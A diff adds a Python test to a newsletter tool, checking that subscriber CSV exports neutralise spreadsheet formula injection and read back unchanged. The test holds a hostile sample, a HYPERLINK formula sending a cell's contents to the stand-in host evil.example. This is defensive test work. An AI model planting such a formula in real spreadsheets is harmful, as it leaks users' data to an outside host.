@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
@@ -223,3 +224,31 @@ def test_forget_erases_a_person_and_refuses_them_at_every_later_import(
     assert "rana@example.org" not in recipients(transport)
     assert any("1 rows are readers who unsubscribed" in p for p in summary.problems)
     services.close()
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_and_reads_back_the_same_names(
+    tmp_path: Path, base_url: str
+) -> None:
+    config, _ = config_without_file(tmp_path, base_url)
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    names = [hostile, "-2+3", "@SUM(A1:A9)", "+1 555", "Rana", "'quoted' Sam"]
+    rows = "".join(
+        f'r{n}@example.org,"{name.replace(chr(34), 2 * chr(34))}"\n' for n, name in enumerate(names)
+    )
+    (tmp_path / "new.csv").write_text("email,name\n" + rows)
+    added = digest(config, "subscribers", "import", str(tmp_path / "new.csv"), "--list", "daily")
+    assert "6 added" in added.stdout, added.output
+
+    out = tmp_path / "out.csv"
+    assert digest(config, "subscribers", "export", "-o", str(out)).exit_code == 0
+    exported = {row["email"]: row["name"] for row in csv.DictReader(out.open())}
+    # Every cell a spreadsheet would run starts with the quote that makes it text.
+    assert exported["r0@example.org"] == "'" + hostile
+    assert exported["r1@example.org"] == "'-2+3" and exported["r3@example.org"] == "'+1 555"
+    assert exported["r2@example.org"] == "'@SUM(A1:A9)"
+    assert exported["r4@example.org"] == "Rana" and exported["r5@example.org"] == "'quoted' Sam"
+    # Read back, the names are the readers' own, unchanged.
+    back = digest(config, "subscribers", "import", str(out), "--list", "daily")
+    assert "0 added, 0 updated, 6 unchanged, 0 refused" in back.stdout, back.output
+    listed = json.loads(digest(config, "subscribers", "list", "--json").stdout)
+    assert sorted(member["name"] for member in listed) == sorted(names)
